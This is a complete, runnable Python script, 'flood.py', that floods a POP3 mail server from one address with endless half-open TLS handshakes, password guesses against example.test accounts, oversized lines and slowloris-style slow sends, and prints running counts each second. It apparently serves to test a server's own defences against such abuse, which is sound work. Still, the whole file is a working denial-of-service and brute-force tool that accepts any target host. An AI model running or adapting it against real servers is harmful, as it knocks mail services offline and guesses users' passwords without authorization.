"""One attacker, from one address: half-open TLS handshakes, wrong passwords, endless lines and slow
octets, all at once and for ever. Run as a program: flood.py SOURCE HOST STARTTLS_PORT IMPLICIT_PORT
COUNT; each second it prints a line of what it has done."""

import asyncio
import itertools
import json
import sys

PAUSE = 0.05  # Between two attempts of one thread of the attack; the attacker's own bound.
CLIENT_HELLO = bytes.fromhex("16030100c8010000c40303") + b"\x5a" * 40  # The rest never comes.

done = {"half-open handshakes": 0, "wrong passwords": 0, "endless octets": 0, "slow octets": 0,
        "turned away": 0}
names = itertools.count()


async def half_open(_, implicit):
    reader, writer = await implicit()
    writer.write(CLIENT_HELLO)
    done["half-open handshakes"] += 1
    await reader.read(1)  # Until the server has had enough.
    writer.close()


async def wrong_passwords(starttls, _):
    reader, writer = await starttls()
    while (await reader.readline()).startswith((b"+OK", b"-ERR [AUTH]")):
        number = next(names)
        writer.write(b"USER flood%d@example.test\r\nPASS guess%d\r\n" % (number % 200, number))
        if not (await reader.readline()).startswith(b"+OK"):
            break
        done["wrong passwords"] += 1
    done["turned away"] += 1
    writer.close()


async def send_for_ever(starttls, octets, what, pause):
    reader, writer = await starttls()
    if not (await reader.readline()).startswith(b"+OK"):
        done["turned away"] += 1
        writer.close()
        return
    while not reader.at_eof():
        writer.write(octets)
        await writer.drain()
        done[what] += len(octets)
        await asyncio.sleep(pause)
    writer.close()


async def endless_line(starttls, _):
    await send_for_ever(starttls, b"x" * 65536, "endless octets", 0)


async def slow_octets(starttls, _):
    await send_for_ever(starttls, b"C", "slow octets", 0.5)


async def again_and_again(attack, starttls, implicit):
    while True:
        try:
            await attack(starttls, implicit)
        except OSError:
            done["turned away"] += 1
        await asyncio.sleep(PAUSE)


async def main(source, host, starttls_port, implicit_port, count):
    def to(port):
        return lambda: asyncio.open_connection(host, int(port), local_addr=(source, 0))

    attacks = [half_open, wrong_passwords, endless_line, slow_octets]
    tasks = [asyncio.create_task(again_and_again(attack, to(starttls_port), to(implicit_port)))
             for attack in attacks for _ in range(int(count))]
    while not any(task.done() for task in tasks):
        print(json.dumps(done), flush=True)
        await asyncio.sleep(1)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
